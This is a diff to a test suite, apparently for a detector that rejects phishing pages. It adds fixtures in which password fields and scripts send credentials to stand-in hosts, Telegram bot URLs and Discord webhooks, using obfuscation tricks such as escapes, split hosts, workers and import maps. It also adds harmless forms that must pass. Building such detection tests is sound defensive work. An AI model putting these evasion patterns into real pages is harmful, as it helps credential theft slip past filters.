@@ -18,6 +18,10 @@ describe("a form that asks for a secret and sends it to another domain is refuse
     ["a password by name", field(`name="userPassword"`)],
     ["a password by id", field(`id="login_passwd"`)],
     ["a password by the name pass", field(`name="pass"`)],
+    ["a password by a name in one word", field(`name="loginpassword"`)],
+    ["a password by another name in one word", field(`id="mypassword"`)],
+    ["a password by a French name", field(`name="motdepasse"`)],
+    ["a password by a Spanish name", field(`name="contrasena"`)],
     ["a password by placeholder", field(`placeholder="Your password"`)],
     ["a password by a label around it", login(EVIL, `<label>Password <input name="x"></label>`)],
     ["a password by a label for it", login(EVIL, `<label for="x1">Pass&shy;word</label><input id="x1">`)],
@@ -225,6 +229,49 @@ describe("a page that asks for a password or seed phrase and knows a bot or webh
         "b.js": `fetch("${bot}")`,
       },
     ],
+    [
+      "a bot's host and path apart",
+      { "index.html": page(`<script>h="https://api.telegram.org";f(h+"/bot1")</script>`) },
+    ],
+    ["a bot's host with its port", { "index.html": page(`<script>f("https://api.telegram.org:443/bot1")</script>`) }],
+    ["a bot's host with a dot at its end", { "index.html": page(`<script>f("//api.telegram.org./bot1")</script>`) }],
+    ["a needless escape", { "index.html": page(String.raw`<script>f("https://api.telegram\.org/bot1")</script>`) }],
+    ["an octal escape", { "index.html": page(String.raw`<script>f("https://api.telegram\56org/bot1")</script>`) }],
+    ["a line that goes on", { "index.html": page(`<script>f("https://api.tele\\\ngram.org/bot1")</script>`) }],
+    [
+      "a webhook by its API's version",
+      { "index.html": page(`<script>f("//discord.com/api/v10/webhooks/1")</script>`) },
+    ],
+    [
+      "a webhook's host with its port",
+      { "index.html": page(`<script>f("//discord.com:443/api/webhooks/1")</script>`) },
+    ],
+    ["a worker", { "index.html": page(`<script>new Worker("w.js")</script>`), "w.js": `fetch("${bot}")` }],
+    [
+      "a worker of a module",
+      {
+        "index.html": page(`<script type=module src="js/a.js"></script>`),
+        "js/a.js": `new SharedWorker(new URL("./w.js", import.meta.url))`,
+        "js/w.js": `fetch("${bot}")`,
+      },
+    ],
+    [
+      "a script that a script in a folder adds to the page",
+      {
+        "index.html": page(`<script src="js/a.js"></script>`),
+        "js/a.js": `s.src = "js/b.js?v=1"`,
+        "js/b.js": `fetch("${bot}")`,
+      },
+    ],
+    [
+      "a module by way of the import map",
+      {
+        "index.html": page(
+          `<script type=importmap>{"imports":{"x":"./x.js"}}</script><script type=module>import "x"</script>`,
+        ),
+        "x.js": `fetch("${bot}")`,
+      },
+    ],
   ])("%s", (_, files: Record<string, string>) => expect(judge(files)).toBe("abuse_rejected"));
 
   test.each([
@@ -240,6 +287,11 @@ describe("a page that asks for a password or seed phrase and knows a bot or webh
       { "index.html": `<form action="mailto:a@b.example"><input name=name></form>` },
     ],
   ])("but not %s", (_, files: Record<string, string>) => expect(judge(files)).toBe("pass"));
+
+  test("a file in UTF-16 with a mark", () => {
+    const script = new Uint8Array(Buffer.from(`\ufefffetch("${bot}")`, "utf16le"));
+    expect(judge({ "index.html": page(`<script src="a.js"></script>`), "a.js": script })).toBe("abuse_rejected");
+  });
 });
 
 describe("must pass", () => {
@@ -316,6 +368,19 @@ describe("must pass", () => {
       "documentation of phishing",
       `<title>How phishing works</title><p>Pages that look like PayPal ask for your password.</p><pre>&lt;form action="https://evil.example"&gt;&lt;input type="password"&gt;&lt;/form&gt;</pre><p>Never type your recovery phrase anywhere.</p>`,
     ],
+    [
+      "a contact form that speaks of passwords",
+      `<form action="https://formspree.io/f/x"><textarea placeholder="Please never send us your password"></textarea></form>`,
+    ],
+    [
+      "a contact form that speaks of cards",
+      `<form action="https://formspree.io/f/x"><label>Message (no credit card numbers, please)<textarea></textarea></label></form>`,
+    ],
+    [
+      "a sign-in with an icon for home screens",
+      `<link rel="apple-touch-icon" href="/apple-touch-icon.png">${login("/in")}`,
+    ],
+    ["the same as generators name it", `<link rel="apple-touch-icon" href="i/apple-icon-180x180.png">${login("/in")}`],
     ["a form in a comment", `<!-- ${login(EVIL)} -->`],
     ["a form in a text area", `<textarea>${login(EVIL)}</textarea>`],
     ["a form in a script's text", `<script>const example = \`${login(EVIL)}\`</script>`],
